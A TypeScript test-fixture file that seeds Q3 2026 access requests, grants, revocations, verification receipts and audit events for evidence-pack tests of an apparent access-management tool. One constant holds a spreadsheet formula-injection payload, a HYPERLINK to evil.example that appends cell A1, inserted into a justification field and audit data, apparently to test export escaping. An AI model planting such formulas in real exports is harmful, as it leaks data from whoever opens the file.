/**
 * Seeded replica documents for the evidence tests: Q3 2026 with approvals, a late, a failed and an
 * on-time revocation, drift, a break-glass use, sign-ins, and documents just outside the quarter.
 * The expected figures are worked out by hand in evidence-model.test.ts.
 */
import { sealEvent, type AccessRequest, type AuditEvent, type Grant, type Verification } from '../../../core/index.js';
import { makeGrant, makeResource } from '../../../core/test-fixtures.js';
import type { EvidencePackInput } from './evidence-pack.js';
import type { EvidencePeriod } from './period.js';

export const Q3_2026: EvidencePeriod = { from: '2026-07-01T00:00:00.000Z', to: '2026-10-01T00:00:00.000Z', label: 'Q3 2026' };
export const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"quarter close")';
export const BARE_CR = 'restore the payroll run\rthen check totals';

const MIN = 60_000;
const plus = (iso: string, ms: number) => new Date(Date.parse(iso) + ms).toISOString();

function request(id: string, over: Partial<AccessRequest> & Pick<AccessRequest, 'createdAt' | 'requesterId' | 'resourceId' | 'status'>): AccessRequest {
  return { id, durationMinutes: 120, justification: 'quarter close', ticket: '', policy: null, currentStep: 0, decisions: [], riskScore: 10, outcomeReason: '', grantId: null, extendsGrantId: null, updatedAt: over.createdAt, decidedAt: null, expiresAt: null, revision: 1, ...over };
}
function approved(id: string, createdAt: string, afterMs: number, requesterId: string, resourceId: string, grantId: string, over: Partial<AccessRequest> = {}): AccessRequest {
  const decidedAt = plus(createdAt, afterMs);
  return request(id, { createdAt, requesterId, resourceId, status: 'approved', decidedAt, grantId, decisions: [{ stepIndex: 0, approverId: 'u-alice', decision: 'approve', reason: '', decidedAt, breakGlass: false }], ...over });
}
function grant(id: string, req: AccessRequest, over: Partial<Grant> = {}): Grant {
  const expiresAt = plus(req.decidedAt!, 120 * MIN);
  return makeGrant({ id, requestId: req.id, userId: req.requesterId, resourceId: req.resourceId, approvedAt: req.decidedAt!, startsAt: req.decidedAt!, expiresAt, status: 'verified', ...over });
}
function ended(id: string, req: AccessRequest, latenessMs: number, over: Partial<Grant> = {}): Grant {
  const g = grant(id, req);
  // Ended at expiry as the scheduler wrote it before revocation categories: the category is read from the reason.
  return { ...g, revokeRequestedAt: g.expiresAt, revokedAt: plus(g.expiresAt, latenessMs), latenessMs, endedBy: 'system', endedReason: 'expired', verification: 'gone', ...over };
}
function receipt(id: string, grantId: string, purpose: Verification['purpose'], result: Verification['result'], finishedAt: string): Verification {
  return { id, grantId, purpose, result, connector: 'entra', endpoint: 'https://graph.example/v1.0/groups/g-1/members', reads: [], consistentReads: 3, transitiveChecked: true, startedAt: plus(finishedAt, -MIN), finishedAt };
}

export function seededData() {
  const r1 = approved('r-1', '2026-07-10T09:00:00.000Z', 10 * MIN, 'u-grace', 'res-1', 'g-1', { justification: FORMULA });
  const r2 = approved('r-2', '2026-08-01T10:00:00.000Z', 30 * MIN, 'u-frank', 'res-1', 'g-2', { justification: BARE_CR });
  const r3 = approved('r-3', '2026-08-05T08:00:00.000Z', 2 * MIN, 'u-grace', 'res-2', 'g-3', { decisions: [], autoApproval: { approved: true, reason: 'low risk, business hours' } });
  const r4 = request('r-4', { createdAt: '2026-08-06T08:00:00.000Z', requesterId: 'u-frank', resourceId: 'res-2', status: 'denied', decidedAt: '2026-08-06T09:00:00.000Z', outcomeReason: 'not needed' });
  const r5 = request('r-5', { createdAt: '2026-09-01T08:00:00.000Z', requesterId: 'u-ivan', resourceId: 'res-1', status: 'ineligible', outcomeReason: 'no access profile names you' });
  const bgAt = '2026-09-10T22:01:00.000Z';
  const r6 = approved('r-6', '2026-09-10T22:00:00.000Z', MIN, 'u-frank', 'res-2', 'g-4', { decisions: [{ stepIndex: 0, approverId: 'u-frank', decision: 'approve', reason: 'outage: ERP down', decidedAt: bgAt, breakGlass: true }] });
  // Asked in Q2, approved in Q3: its approval counts in Q3's approval times, not in Q3's requests.
  const r7 = approved('r-7', '2026-06-30T23:00:00.000Z', 90 * MIN, 'u-judy', 'res-1', 'g-5');
  const r8 = request('r-8', { createdAt: '2026-10-02T08:00:00.000Z', requesterId: 'u-grace', resourceId: 'res-1', status: 'pending_approval' });
  const r9 = request('r-9', { createdAt: '2026-09-30T23:59:00.000Z', requesterId: 'u-grace', resourceId: 'res-2', status: 'pending_approval' });
  const r0 = approved('r-0', '2026-05-01T08:00:00.000Z', 5 * MIN, 'u-grace', 'res-1', 'g-0');
  const grants: Grant[] = [
    ended('g-1', r1, MIN),
    ended('g-2', r2, 20 * MIN),
    { ...grant('g-3', r3), status: 'revoke_failed', revokeRequestedAt: plus(r3.decidedAt!, 120 * MIN), attempts: 5, lastError: 'Graph answered 503', verification: 'still_present' },
    ended('g-4', r6, 0, { verification: 'drift', endedBy: 'u-carol', endedReason: 'review: emergency over', endedCategory: 'review' }),
    ended('g-5', r7, 0),
    ended('g-0', r0, 0),
  ];
  const verifications: Verification[] = [
    receipt('v-1', 'g-1', 'provision', 'effective', '2026-07-10T09:12:00.000Z'),
    receipt('v-2', 'g-1', 'revocation', 'gone', '2026-07-10T11:12:00.000Z'),
    receipt('v-3', 'g-2', 'revocation', 'gone', '2026-08-01T12:51:00.000Z'),
    receipt('v-4', 'g-3', 'revocation', 'still_present', '2026-08-05T10:10:00.000Z'),
    receipt('v-5', 'g-4', 'drift_check', 'drift', '2026-09-20T08:00:00.000Z'),
    receipt('v-6', 'g-4', 'revocation', 'inconclusive', '2026-09-10T23:05:00.000Z'),
    receipt('v-7', 'g-0', 'revocation', 'gone', '2026-05-01T10:10:00.000Z'),
  ];
  const audit: AuditEvent[] = [];
  const types: [AuditEvent['type'], string][] = [
    ['auth.login_succeeded', '2026-06-15T08:00:00.000Z'],
    ['auth.login_succeeded', '2026-07-02T08:00:00.000Z'],
    ['auth.login_failed', '2026-07-02T08:01:00.000Z'],
    ['auth.step_up_succeeded', '2026-08-01T10:01:00.000Z'],
    ['request.created', '2026-09-30T23:59:00.000Z'],
    ['auth.login_succeeded', '2026-10-05T08:00:00.000Z'],
  ];
  types.forEach(([type, at], i) => {
    audit.push(sealEvent({ id: `ae-${i + 1}`, seq: i + 1, type, actorId: 'u-grace', at, subjectType: type === 'request.created' ? 'request' : 'account', subjectId: type === 'request.created' ? 'r-9' : 'u-grace', data: i === 4 ? { justification: FORMULA } : {} }, audit.at(-1)?.hash ?? '0'.repeat(64)));
  });
  return {
    requests: [r0, r1, r2, r3, r4, r5, r6, r7, r8, r9],
    grants,
    verifications,
    audit,
    resources: [makeResource({ id: 'res-1', name: 'Payroll DB admins' }), makeResource({ id: 'res-2', name: 'ERP vendor master' })],
    users: [
      { id: 'u-grace', username: 'grace', displayName: 'Grace Hopper' },
      { id: 'u-frank', username: 'frank', displayName: 'Frank Ocean' },
      { id: 'u-ivan', username: 'ivan', displayName: 'Ivan Petrov' },
      { id: 'u-judy', username: 'judy', displayName: 'Judy Chen' },
      { id: 'u-alice', username: 'alice', displayName: 'Alice Approver' },
    ],
  };
}

export function seededPackInput(over: Partial<EvidencePackInput> = {}): EvidencePackInput {
  return {
    data: seededData(),
    period: Q3_2026,
    generatedAt: '2026-10-03T09:00:00.000Z',
    generatedBy: { id: 'u-heidi', username: 'heidi', displayName: 'Heidi Auditor' },
    server: 'https://jit.example',
    checkpoints: null,
    bom: false,
    ...over,
  };
}
